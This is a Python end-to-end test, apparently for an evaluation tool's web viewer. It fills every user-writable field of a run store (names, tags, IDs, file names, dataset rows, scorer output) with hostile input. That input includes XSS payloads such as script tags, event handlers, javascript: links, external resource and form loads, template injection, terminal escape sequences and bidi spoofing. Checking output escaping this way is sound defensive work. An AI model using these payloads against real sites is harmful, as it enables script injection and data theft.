"""A store in which every text that someone else can write is an attack on a page that shows it."""

import json
from pathlib import Path
from typing import Any

import yaml

from tests.e2e.commands import run, write_rows

LONG = "W" * 200_000
EXPERIMENT = "<b>e&'\""
RUN = "<img src=x onerror=pwned=1>"
TASK = "<svg onload=\"pwned='task'\">"
MODEL = "javascript:pwned='model'//\u202eledom"
KEY_ID = "\"><script>pwned='id'</script>\x1b[31m"


def attacks(site: str) -> list[str]:
    """`site`: another server, which must not be asked for anything."""
    return [
        "<script>window.pwned='script'</script>",
        f"<script src={site}/script></script>",
        "<img src=x onerror=\"window.pwned='img'\">",
        f"<img src={site}/img>",
        "<svg onload=\"window.pwned='svg'\"><animate onbegin=\"window.pwned='animate'\"/></svg>",
        "<a href=\"javascript:window.pwned='link'\">javascript:window.pwned='link'</a>",
        f"<iframe src={site}/frame srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
        f"<link rel=stylesheet href={site}/style>",
        f"<style>@import '{site}/import'; *{{background:url({site}/url)}}</style>",
        f'<meta http-equiv=refresh content="0;url={site}/meta"><base href={site}/>',
        f"<form action={site}/form><input name=token autofocus onfocus=\"window.pwned='focus'\"></form>",
        f"<object data={site}/object></object><embed src={site}/embed><video src={site}/video autoplay></video>",
        "\"'><b onmouseover=window.pwned='attribute' style=position:fixed;inset:0>",
        "</title></pre></textarea></style></script><script>window.pwned='end'</script>",
        "--><script>window.pwned='comment'</script><!--",
        "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= pwned %> #{pwned}",
        "\u202egnp.exe \u2066\u2067 \u200b",
        "\x00\x07\x1b[2J\x1b]8;;http://x\x07\x1b]52;c;AAAA\x07\x9b31m\r",
        "\U0001f600 \u0301" + "\u0316" * 200,
        f"![x]({site}/markdown) [x](javascript:window.pwned='markdown')",
    ]


_CODE = """
import json
from holdfast import Answer
from holdfast.models import ModelError
ALL = json.loads({all!r})
LONG = json.loads({long!r})

async def answer(request):
    text = str(request.messages[-1].get("content"))
    if "tool" in text:
        called = {{"id": ALL, "type": "function", "function": {{"name": ALL, "arguments": json.dumps({{ALL: ALL}})}}}}
        return Answer("", {{"role": "assistant", "content": None, "reasoning_content": ALL, "tool_calls": [called]}},
                      [called], "tool_calls")
    if "fail" in text:
        raise ModelError("bad_request", ALL)
    return LONG if "long" in text else ALL

def judge(sample, answer):
    '''A scorer with a reason.'''
    return {{"value": len(answer.text) % 2 == 0, "reason": ALL}}

def label(sample, answer) -> str:
    return ALL[:100]

def broken(sample, answer):
    raise ValueError(ALL)
"""


def make_store(folder: Path, site: str) -> str:
    """Write the store `runs` in a folder. Returns a key of its run."""
    text = " ".join(attacks(site))
    (folder / "own.py").write_text(_CODE.format(all=json.dumps(text), long=json.dumps(LONG)))
    rows: list[dict[str, Any]] = [
        {"id": f"{KEY_ID}{name}", "question": f"{name} {text}", "answer": text, text[:200]: text, "long": LONG}
        for name in ("plain", "tool", "fail", "long")
    ]
    write_rows(folder / "<img src=x onerror=pwned=2>.jsonl", rows)
    data = {"path": "<img src=x onerror=pwned=2>.jsonl", "id": "id", "input": "question", "target": "answer"}
    tasks = [
        {"name": TASK, "dataset": data, "prompt": "{question}", "scorers": ["includes", "own:judge", "own:label"]},
        {"name": "agent", "dataset": data, "prompt": "{question}", "solver": "react", "scorers": ["own:broken"]},
    ]
    spec = {
        "experiment": EXPERIMENT,
        "description": text,
        "tags": ["<script>pwned='tag'</script>", "\u202egat", text[:80]],
        "models": [{"name": MODEL, "provider": "own:answer"}],
        "tasks": [{**each, "repeats": 2, "sample_retries": 0} for each in tasks],
    }
    (folder / "hostile.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    done = run("run", "hostile.yaml", "--id", RUN, cwd=folder)
    assert done.code in (0, 1), done.err
    assert run("note", RUN, text, cwd=folder).code == 0
    assert run("tag", RUN, "<b>late", cwd=folder).code == 0
    lines = run("export", RUN, "--output", "lines.jsonl", cwd=folder)
    assert lines.code == 0, lines.err
    every = [json.loads(line) for line in (folder / "lines.jsonl").read_text().splitlines()]
    assert {each["status"] for each in every} == {"finished", "failed"}
    return str(next(each["key"] for each in every if each["status"] == "finished"))
